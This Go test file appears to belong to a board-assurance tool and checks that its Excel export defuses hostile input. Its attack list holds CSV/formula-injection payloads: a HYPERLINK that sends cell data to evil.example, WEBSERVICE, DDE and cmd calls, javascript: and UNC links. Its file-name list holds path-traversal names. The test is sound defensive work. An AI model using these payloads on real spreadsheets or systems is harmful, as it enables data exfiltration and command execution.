package export_test

import (
	"archive/zip"
	"context"
	"encoding/xml"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/nhsguardian/guardian/assets"
	"github.com/nhsguardian/guardian/assurance"
	"github.com/nhsguardian/guardian/assurance/sqlite"
	"github.com/nhsguardian/guardian/export"
	"github.com/xuri/excelize/v2"
)

// attacks are strings a spreadsheet could take for a formula, a link or a
// call out of the workbook. Each carries "evil" so it can be traced.
var attacks = []string{
	`=HYPERLINK("http://evil.example/steal?d="&A1,"Open the minutes")`,
	`+cmd|' /C calc'!A0 evil`,
	`-2+3+cmd|' /C evil'!A0`,
	`@SUM(1+1)*cmd|' /C evil'!A0`,
	"\t=1+1 evil",
	`=WEBSERVICE("http://evil.example/")`,
	`=DDE("cmd";"/C evil";"A1")`,
	`＝HYPERLINK("http://evil.example")`, // full-width equals
	`javascript:alert('evil')`,
	`file:///C:/Windows/System32/calc.exe?evil`,
	`\\evil.example\share\payload.exe`,
	`|evil`,
}

// TestHostileContentFromARealLog fills every user field of a real SQLite
// log that reaches a board paper with attacks (settings, meetings,
// questions, responses, comments, actions, evidence names and descriptions,
// the audit actor, and the cover's own words), exports it with the evidence
// files, and checks every sheet and the workbook's XML: no formula, every
// risky cell quote-prefixed, the only links relative ones to exported
// evidence, no external-link or DDE parts, and evidence files only inside
// their folder.
func TestHostileContentFromARealLog(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	s, err := sqlite.Create(filepath.Join(dir, "hostile.guardian"), sqlite.Options{Catalogue: assets.MustCatalogue(), Actor: attacks[5]})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := s.UpdateSettings(ctx, assurance.Settings{Organisation: attacks[0], Guardian: attacks[1], SecurityMarking: attacks[2]}); err != nil {
		t.Fatal(err)
	}
	var meetings []*assurance.Meeting
	for i, title := range []string{attacks[3], attacks[6]} {
		m := &assurance.Meeting{Kind: assurance.Board, Title: title, Date: assurance.MustDate("2026-09-01").AddDays(60 * i)}
		if err := s.CreateMeeting(ctx, m); err != nil {
			t.Fatal(err)
		}
		meetings = append(meetings, m)
	}
	for i, a := range attacks {
		q := &assurance.Question{Area: assets.MustCatalogue().Default().Areas()[i].ID, Text: a, AskedOf: attacks[(i+1)%len(attacks)],
			RaisedOn: assurance.MustDate("2026-08-01"), MeetingID: meetings[0].ID, DueOn: assurance.MustDate("2026-10-01"), Status: assurance.StatusAsked}
		if err := s.CreateQuestion(ctx, q); err != nil {
			t.Fatalf("question %q: %v", a, err)
		}
		// Answered after the first Board, so it shows among the changes.
		q.Status, q.Response, q.RespondedOn, q.Level, q.Comment = assurance.StatusAnswered, attacks[(i+2)%len(attacks)], assurance.MustDate("2026-10-20"), assurance.Limited, attacks[(i+3)%len(attacks)]
		if i == 0 {
			// Too long for its printed row: printed whole on the Full text sheet.
			q.Response = strings.Repeat(q.Response+" evil ", 300)
		}
		if err := s.UpdateQuestion(ctx, q); err != nil {
			t.Fatal(err)
		}
		if err := s.CreateAction(ctx, &assurance.Action{QuestionID: q.ID, Text: attacks[(i+4)%len(attacks)], Owner: attacks[(i+5)%len(attacks)], DueOn: assurance.MustDate("2026-11-01")}); err != nil {
			t.Fatal(err)
		}
		ev := &assurance.Evidence{QuestionID: q.ID, Name: evidenceNames[i%len(evidenceNames)], Description: attacks[(i+6)%len(attacks)]}
		if err := s.AttachEvidence(ctx, ev, strings.NewReader("evidence "+a)); err != nil {
			t.Fatalf("evidence %q: %v", ev.Name, err)
		}
		if err := s.CreateEvidenceRequest(ctx, &assurance.EvidenceRequest{QuestionID: q.ID, From: attacks[(i+7)%len(attacks)],
			What: attacks[(i+8)%len(attacks)], Kind: attacks[(i+9)%len(attacks)], DueOn: assurance.MustDate("2026-11-01"),
			RequestedOn: assurance.MustDate("2026-10-01")}); err != nil {
			t.Fatalf("request: %v", err)
		}
		if err := s.CreateDecision(ctx, &assurance.Decision{Decision: a, Meeting: attacks[(i+1)%len(attacks)],
			Impact: assurance.ImpactPartly, Comment: attacks[(i+2)%len(attacks)], QuestionID: q.ID}); err != nil {
			t.Fatalf("decision: %v", err)
		}
	}
	out := filepath.Join(dir, "paper", "Board paper.xlsx")
	os.Mkdir(filepath.Dir(out), 0o700)
	res, err := export.WriteFile(ctx, s, assets.MustCatalogue(), out, export.Options{
		Today: assurance.MustDate("2026-11-23"), ForMeeting: meetings[1].ID, IncludeEvidence: true,
		Title: attacks[7], PreparedBy: attacks[8], Period: attacks[9], Purpose: attacks[10], Recommendation: attacks[11], ExecutiveSummary: attacks[0],
	})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != len(export.Sheets) {
		t.Fatalf("sheets %v, want %v", got, export.Sheets)
	}
	cells := 0
	for _, sh := range f.GetSheetList() {
		rows, err := f.GetRows(sh)
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for i, r := range rows {
			for j, v := range r {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				cells++
				if fm, _ := f.GetCellFormula(sh, cell); fm != "" {
					t.Errorf("%s!%s is the formula %q", sh, cell, fm)
				}
				if strings.Contains(v, "evil") {
					found++
				}
				if risky(v) {
					id, _ := f.GetCellStyle(sh, cell)
					if xf := f.Styles.CellXfs.Xf[id]; xf.QuotePrefix == nil || !*xf.QuotePrefix {
						t.Errorf("%s!%s %q is not quote-prefixed", sh, cell, v)
					}
				}
				if ok, target, _ := f.GetCellHyperLink(sh, cell); ok {
					checkLink(t, sh+"!"+cell, target)
				}
			}
		}
		// Every sheet but the area summary (catalogue text and counts) shows user text.
		if found == 0 && sh != export.SheetAreas {
			t.Errorf("%s shows none of the attacks: the test did not reach it", sh)
		}
	}
	checkWorkbookXML(t, out)
	checkEvidenceFolder(t, res.EvidenceDir, filepath.Dir(out), res.EvidenceFiles)
	t.Logf("%d attacks in every user field; %d cells on %d sheets checked; %d evidence files exported", len(attacks), cells, len(export.Sheets), res.EvidenceFiles)
}

// evidenceNames try to climb out of the evidence folder or name a device.
var evidenceNames = []string{"javascript:alert(1).pdf", `..\..\..\evil.exe`, "../../evil.xlsx", "/etc/evil", "CON.pdf", "file:evil.docx", `C:\evil.doc`, "=evil().csv"}

func risky(v string) bool {
	return v != "" && (strings.ContainsRune("=+-@\t\r|", rune(v[0])) || strings.HasPrefix(v, "＝"))
}

var scheme = regexp.MustCompile(`^[A-Za-z][A-Za-z0-9+.-]*:`)

func checkLink(t *testing.T, where, target string) {
	t.Helper()
	if scheme.MatchString(target) || strings.HasPrefix(target, "/") || strings.HasPrefix(target, `\`) || strings.Contains(target, "..") {
		t.Errorf("%s links to %q: only relative links to exported evidence are allowed", where, target)
	}
}

// checkWorkbookXML reads the parts of the .xlsx: no <f> formula element, no
// external-link or DDE part, and every relationship that leaves the
// workbook is a relative link into the evidence folder.
func checkWorkbookXML(t *testing.T, path string) {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, part := range z.File {
		if strings.Contains(strings.ToLower(part.Name), "externallink") || strings.Contains(strings.ToLower(part.Name), "connections") {
			t.Errorf("workbook has a part %s", part.Name)
		}
		rc, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, _ := io.ReadAll(rc)
		rc.Close()
		if strings.HasPrefix(part.Name, "xl/worksheets/") && (strings.Contains(string(data), "<f>") || strings.Contains(string(data), "<f ")) {
			t.Errorf("%s holds a formula", part.Name)
		}
		if !strings.HasSuffix(part.Name, ".rels") {
			continue
		}
		var rels struct {
			Rels []struct {
				Target     string `xml:"Target,attr"`
				TargetMode string `xml:"TargetMode,attr"`
			} `xml:"Relationship"`
		}
		if err := xml.Unmarshal(data, &rels); err != nil {
			t.Fatalf("%s: %v", part.Name, err)
		}
		for _, r := range rels.Rels {
			if r.TargetMode == "External" {
				checkLink(t, part.Name, r.Target)
				if !strings.HasPrefix(r.Target, "Board%20paper%20evidence/") {
					t.Errorf("%s: external target %q is not in the evidence folder", part.Name, r.Target)
				}
			}
		}
	}
}

// checkEvidenceFolder checks the exported files are all inside the evidence
// folder, and nothing else was written beside the workbook.
func checkEvidenceFolder(t *testing.T, evDir, paperDir string, want int) {
	t.Helper()
	if filepath.Dir(evDir) != paperDir {
		t.Fatalf("evidence folder %q is not beside the paper", evDir)
	}
	entries, err := os.ReadDir(evDir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != want || want != len(attacks) {
		t.Errorf("%d files in the evidence folder, %d exported, %d attached", len(entries), want, len(attacks))
	}
	for _, e := range entries {
		if !e.Type().IsRegular() || strings.ContainsAny(e.Name(), `/\:`) {
			t.Errorf("evidence folder holds %q (%v)", e.Name(), e.Type())
		}
	}
	top, _ := os.ReadDir(paperDir)
	if len(top) != 2 {
		t.Errorf("beside the paper: %v", top)
	}
	if _, err := os.Stat(filepath.Join(filepath.Dir(paperDir), "evil.xlsx")); err == nil {
		t.Error("an evidence file climbed out of its folder")
	}
}
